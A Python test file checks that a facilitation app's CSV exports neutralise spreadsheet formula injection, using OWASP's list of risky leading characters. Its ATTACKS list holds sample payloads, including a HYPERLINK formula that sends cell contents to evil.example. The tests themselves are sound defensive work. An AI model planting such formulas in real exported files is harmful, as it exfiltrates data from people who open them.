"""Issue 12 · 10: no CSV cell starts a spreadsheet formula (OWASP CSV injection).

Before, cards, names and project fields were written verbatim: `=HYPERLINK(…)` in a card
or a member's project became a live formula in Excel or LibreOffice."""

from __future__ import annotations

import csv
import io
from dataclasses import replace

from hypothesis import given, settings
from hypothesis import strategies as st

from facilitation.domain.club.timeline import RadarEntry, Step, Timeline
from facilitation.synthesis import render
from facilitation.synthesis.render_timeline import render as render_timeline

from . import fixtures

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")  # OWASP's list
ATTACKS = ("=HYPERLINK(\"http://evil.example/?\"&A1,\"clic\")", "+1+1", "-2+3", "@SUM(A1)",
           "\tcmd", "\r=1", "=1+1")
text = st.one_of(st.sampled_from(ATTACKS),
                 st.text(min_size=1, max_size=30).filter(lambda t: t.strip()))


def neutralised(text: str) -> str:
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def cells(data: bytes) -> list[str]:
    rows = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    return [cell for row in rows for cell in row]


def assert_inert(data: bytes) -> None:
    dangerous = [c for c in cells(data) if c.startswith(FORMULA_STARTS)]
    assert dangerous == []


@settings(max_examples=60, deadline=None)
@given(card=text, author=text, theme=text, prompt=text)
def test_a_synthesis_csv_has_no_formula(card: str, author: str, theme: str,
                                        prompt: str) -> None:
    s = fixtures.session("fr")
    first = s.blockers[0]
    poisoned = replace(first, label=theme, cards=tuple(
        replace(c, text=card, author=author, prompt=prompt) for c in first.cards))
    s = replace(s, blockers=(poisoned, *s.blockers[1:]))
    data = render(s, "csv")
    assert_inert(data)
    assert neutralised(card) in cells(data)  # nothing lost: the text, made inert


@settings(max_examples=60, deadline=None)
@given(value=text, meeting=text)
def test_a_member_timeline_csv_has_no_formula(value: str, meeting: str) -> None:
    tl = Timeline("Club", "Awa", "fr", {"project": value, "stage": None, "strengths": "",
                                        "difficulties": "", "next_steps": []},
                  (Step("2026-03-01T10:00:00+00:00", meeting, "2026-03-01", True,
                        {"project": value, "difficulties": value}),),
                  (RadarEntry(meeting, "2026-03-01", ({"id": "finance", "label": value},),
                              {"finance": 3}),))
    data = render_timeline(tl, "csv")
    assert_inert(data)
    assert neutralised(value) in cells(data)


def test_the_helper_keeps_ordinary_text() -> None:
    from facilitation.synthesis.csv_safe import safe_cell

    assert safe_cell("Le crédit coûte cher") == "Le crédit coûte cher"
    assert safe_cell("=HYPERLINK(1)") == "'=HYPERLINK(1)"
    assert safe_cell(12) == "12" and safe_cell(None) == ""
